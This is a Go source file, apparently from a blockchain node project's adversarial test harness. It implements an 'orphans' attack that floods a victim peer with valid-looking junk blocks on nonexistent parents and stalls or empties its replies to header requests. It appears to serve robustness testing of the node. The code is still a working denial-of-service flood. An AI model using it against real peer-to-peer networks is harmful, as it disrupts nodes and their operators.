package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"time"

	"github.com/libp2p/go-libp2p/core/peer"

	"github.com/ledgerd/ledger/block"
	"github.com/ledgerd/ledger/chain/chaintest"
	"github.com/ledgerd/ledger/netproto"
	"github.com/ledgerd/ledger/p2p"
	"github.com/ledgerd/ledger/tx"
)

// outputSize is the encoded size of one coinbase output (amount and key).
const outputSize = 8 + 32

// orphans gossips a.blocks junk blocks of about a.size bytes, a.rate a
// second, each on a random parent nobody has, at the network's difficulty
// floor. It claims the victim's own chain, so no claim of more work is
// there to be found out, and it cannot show headers linking its blocks to
// anything: it answers headers requests with none, or, when silent, never.
func orphans(silent bool) attack {
	return func(ctx context.Context, a *attacker) error {
		st, _, err := a.victimChain()
		if err != nil {
			return err
		}
		a.serveStatus(st)
		a.serveEmptyMempool()
		a.host.Handle(netproto.ProtoHeaders, netproto.MaxRequestSize, func(context.Context, peer.ID, []byte) ([]byte, error) {
			a.rep.report(event{Event: "headers"})
			if silent {
				<-ctx.Done() // the attacker's context: the request times out first
				return nil, ctx.Err()
			}
			return netproto.EncodeHeaders(nil), nil
		})
		return a.flood(ctx, st.Height)
	}
}

// flood gossips the junk blocks above height.
func (a *attacker) flood(ctx context.Context, height uint64) error {
	topic, err := a.host.JoinTopic(netproto.TopicBlocks, func(context.Context, peer.ID, []byte) p2p.Verdict { return p2p.Accept })
	if err != nil {
		return err
	}
	wctx, cancel := context.WithTimeout(ctx, requestTimeout)
	defer cancel()
	if err := topic.WaitForPeers(wctx, 1); err != nil {
		return err
	}
	var tick <-chan time.Time
	if a.rate > 0 {
		t := time.NewTicker(time.Second / time.Duration(a.rate))
		defer t.Stop()
		tick = t.C
	}
	outputs := make([]tx.TxOut, max(1, a.size/outputSize))
	for i := range outputs {
		outputs[i] = tx.TxOut{Amount: 1, PubKey: chaintest.NewKey(uint64(i % 16)).Pub}
	}
	for i := 0; i < a.blocks; i++ {
		if tick != nil {
			select {
			case <-ctx.Done():
				return nil
			case <-tick:
			}
		}
		b := a.junkBlock(height+1+uint64(i), outputs)
		if err := topic.Publish(ctx, b.Encode()); err != nil {
			return fmt.Errorf("publish junk block %d: %w", i, err)
		}
		a.rep.report(event{Event: "published", N: i + 1})
	}
	a.rep.report(event{Event: "done", N: a.blocks})
	return nil
}

// junkBlock is a well-formed block with valid proof of work at the
// difficulty floor whose parent does not exist.
func (a *attacker) junkBlock(height uint64, outputs []tx.TxOut) *block.Block {
	cb := &tx.Tx{Version: 1, Coinbase: &tx.Coinbase{Height: height}, Outputs: outputs}
	b := &block.Block{Header: block.Header{Version: 1, Time: time.Now().Unix(), Difficulty: a.params.Retarget.Min},
		Txs: []*tx.Tx{cb}}
	rand.Read(b.Header.Prev[:])
	chaintest.Remine(b)
	return b
}
